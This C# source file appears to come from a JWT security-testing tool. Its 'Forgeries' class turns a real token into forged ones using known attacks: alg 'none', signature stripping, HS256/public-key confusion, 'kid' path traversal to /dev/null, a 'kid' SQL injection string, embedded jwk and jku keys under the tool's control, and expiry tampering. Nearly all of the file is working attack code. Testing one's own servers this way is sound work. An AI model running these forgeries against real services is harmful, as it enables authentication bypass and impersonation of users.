using System.Buffers.Text;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Countersign.Cli.Attacks.Plays;

/// <summary>Tokens that look like a server's own (RFC 8725, section 2).</summary>
internal static class Forgeries
{
    /// <param name="token">A real one: its claims are kept.</param>
    /// <param name="keys">The server's published keys; null for none.</param>
    public static IEnumerable<string> Of(string token, JsonObject? keys, Uri origin)
    {
        if (token.Split('.') is not [var header, var payload, var signature] || Parse(header) is not { } says)
        {
            throw new CannotPlay("The server's token is no JSON Web Token.");
        }
        var type = Heard.TextOf(says, "typ");
        foreach (var none in (string[])["none", "None", "NONE"])
        {
            yield return $"{Part(new JsonObject { ["alg"] = none, ["typ"] = type })}.{payload}.";
        }
        yield return $"{header}.{payload}.";
        if (PublicKey(keys, Heard.TextOf(says, "kid")) is { } pem)
        {
            yield return Keyed(With(says, "HS256", null, null), payload, Encoding.ASCII.GetBytes(pem));
        }
        yield return Keyed(With(says, "HS256", "kid", "../../../../../../dev/null"), payload, []);
        yield return Keyed(With(says, "HS256", "kid", "x' UNION SELECT 'a"), payload, "a"u8.ToArray());
        using var own = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        yield return Signed(With(says, "ES256", null, null), payload, own);
        yield return Signed(With(says, "ES256", "jwk", JwkOf(own)), payload, own);
        yield return Signed(With(says, "ES256", "jku", new Uri(origin, "/l/keys").AbsoluteUri), payload, own);
        yield return Signed(With(says, "ES256", "kid", new Uri(origin, "/l/keys").AbsoluteUri), payload, own);
        if (ClaimsOf(token) is { } claims)
        {
            claims["exp"] = 4_102_444_800;
            yield return $"{header}.{Part(claims)}.{signature}";
        }
    }

    /// <summary>What a token says; null where it cannot be read.</summary>
    public static JsonObject? ClaimsOf(string token) => token.Split('.') is [_, var payload, _] ? Parse(payload) : null;

    private static JsonObject With(JsonObject header, string algorithm, string? name, JsonNode? value)
    {
        var made = (JsonObject)header.DeepClone();
        made["alg"] = algorithm;
        if (name is not null)
        {
            made[name] = value;
        }
        return made;
    }

    private static string Keyed(JsonObject header, string payload, byte[] key)
    {
        var said = $"{Part(header)}.{payload}";
        return $"{said}.{Base64Url.EncodeToString(HMACSHA256.HashData(key, Encoding.ASCII.GetBytes(said)))}";
    }

    private static string Signed(JsonObject header, string payload, ECDsa key)
    {
        var said = $"{Part(header)}.{payload}";
        return $"{said}.{Base64Url.EncodeToString(key.SignData(Encoding.ASCII.GetBytes(said), HashAlgorithmName.SHA256))}";
    }

    private static JsonObject JwkOf(ECDsa key)
    {
        var point = key.ExportParameters(includePrivateParameters: false).Q;
        return new JsonObject
        {
            ["kty"] = "EC", ["crv"] = "P-256", ["x"] = Base64Url.EncodeToString(point.X), ["y"] = Base64Url.EncodeToString(point.Y),
        };
    }

    private static string? PublicKey(JsonObject? keys, string? id)
    {
        var key = (keys?["keys"] as JsonArray)?.OfType<JsonObject>().FirstOrDefault(one => Heard.TextOf(one, "kid") == id);
        if (Heard.TextOf(key, "x") is not { } x || Heard.TextOf(key, "y") is not { } y)
        {
            return null;
        }
        using var own = ECDsa.Create(new ECParameters
        {
            Curve = ECCurve.NamedCurves.nistP256, Q = new ECPoint { X = Base64Url.DecodeFromChars(x), Y = Base64Url.DecodeFromChars(y) },
        });
        return own.ExportSubjectPublicKeyInfoPem();
    }

    private static string Part(JsonObject part) => Base64Url.EncodeToString(Encoding.UTF8.GetBytes(part.ToJsonString()));

    // Some write tokens in the other alphabet.
    private static JsonObject? Parse(string part)
    {
        try
        {
            return StrictJson.Parse(Base64Url.DecodeFromChars(part.TrimEnd('=').Replace('+', '-').Replace('/', '_'))) as JsonObject;
        }
        catch (Exception exception) when (exception is FormatException or JsonException)
        {
            return null;
        }
    }
}
